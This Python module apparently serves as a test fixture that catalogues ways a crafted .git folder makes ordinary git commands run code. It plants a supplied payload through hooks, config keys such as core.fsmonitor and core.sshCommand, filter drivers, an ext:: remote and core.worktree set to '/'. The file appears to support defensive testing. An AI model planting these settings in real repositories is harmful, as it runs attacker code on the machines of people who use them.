"""Every way known to us in which a .git folder or a tree runs code when ordinary git commands meet it. Each takes the repository and a command."""
import os
import stat

from repository import git


def script(repo, payload, name="payload"):
    path = repo / ".git" / name
    path.write_text(f"#!/bin/sh\n{payload}\ncat\n")
    path.chmod(path.stat().st_mode | stat.S_IEXEC)
    return path


def config(key):
    def plant(repo, payload):
        git(repo, "config", key, payload)
    return plant


def attribute(attributes, **settings):
    def plant(repo, payload):
        (repo / ".gitattributes").write_text(attributes)
        git(repo, "add", ".gitattributes")
        git(repo, "commit", "-q", "-m", "Attributes")
        (repo / ".git" / "info").mkdir(exist_ok=True)
        (repo / ".git" / "info" / "attributes").write_text(attributes)
        for key, value in settings.items():
            git(repo, "config", key.replace("__", "."), payload if value is None else value)
    return plant


def hooks(repo, payload):
    for hook in ["post-checkout", "post-index-change", "pre-auto-gc", "reference-transaction", "pre-commit", "post-merge", "fsmonitor-watchman",
                 "update", "post-update", "pre-receive", "post-receive", "sendemail-validate", "post-rewrite", "proc-receive", "push-to-checkout"]:
        script(repo, payload, f"hooks/{hook}")


def hooks_path(repo, payload):
    folder = repo / ".git" / "evil-hooks"
    folder.mkdir()
    for hook in ["reference-transaction", "post-index-change", "pre-auto-gc"]:
        path = folder / hook
        path.write_text(f"#!/bin/sh\n{payload}\n")
        path.chmod(0o755)
    git(repo, "config", "core.hooksPath", str(folder))


def included(repo, payload):
    other = repo / ".git" / "other-config"
    other.write_text(f"[core]\n\tfsmonitor = {payload}\n\tpager = {payload}\n[diff]\n\texternal = {payload}\n")
    git(repo, "config", "include.path", str(other))


def worktree_config(repo, payload):
    git(repo, "config", "extensions.worktreeConfig", "true")
    (repo / ".git" / "config.worktree").write_text(f"[core]\n\tfsmonitor = {payload}\n\tsshCommand = {payload}\n")


def promisor(repo, payload):
    """A missing object that a partial clone would fetch by a command."""
    git(repo, "config", "remote.origin.url", f"ext::{payload}")
    git(repo, "config", "remote.origin.promisor", "true")
    git(repo, "config", "extensions.partialClone", "origin")
    git(repo, "config", "protocol.ext.allow", "always")
    blob = git(repo, "rev-parse", "HEAD:src/play.go")
    os.remove(repo / ".git" / "objects" / blob[:2] / blob[2:])


def alternates(repo, payload):
    git(repo, "config", "core.alternateRefsCommand", payload)
    (repo / ".git" / "objects" / "info" / "alternates").write_text("/nonexistent/objects\n")


def outside_work_tree(repo, payload):
    git(repo, "config", "core.fsmonitor", payload)
    git(repo, "config", "core.worktree", "/")


VECTORS = {
    "fsmonitor": config("core.fsmonitor"),
    "pager": config("core.pager"),
    "editor": config("core.editor"),
    "ssh command": config("core.sshCommand"),
    "git proxy": config("core.gitProxy"),
    "askpass": config("core.askPass"),
    "external diff": config("diff.external"),
    "log alias": lambda repo, payload: [git(repo, "config", f"alias.{a}", f"!{payload}") for a in ["log", "status", "rev-list", "cat-file", "ls-tree", "blame"]],
    "gpg program": config("gpg.program"),
    "credential helper": config("credential.helper"),
    "pack objects hook": config("uploadpack.packObjectsHook"),
    "clean and smudge": attribute("* filter=evil\n", filter__evil__clean=None, filter__evil__smudge=None, filter__evil__required="true"),
    "filter process": attribute("* filter=evil\n", filter__evil__process=None),
    "textconv": attribute("* diff=evil\n", diff__evil__textconv=None, diff__evil__command=None),
    "merge driver": attribute("* merge=evil\n", merge__evil__driver=None),
    "hooks": hooks,
    "hooks path": hooks_path,
    "included configuration": included,
    "work tree configuration": worktree_config,
    "lazy fetch of a missing object": promisor,
    "alternates": alternates,
    "work tree elsewhere": outside_work_tree,
}
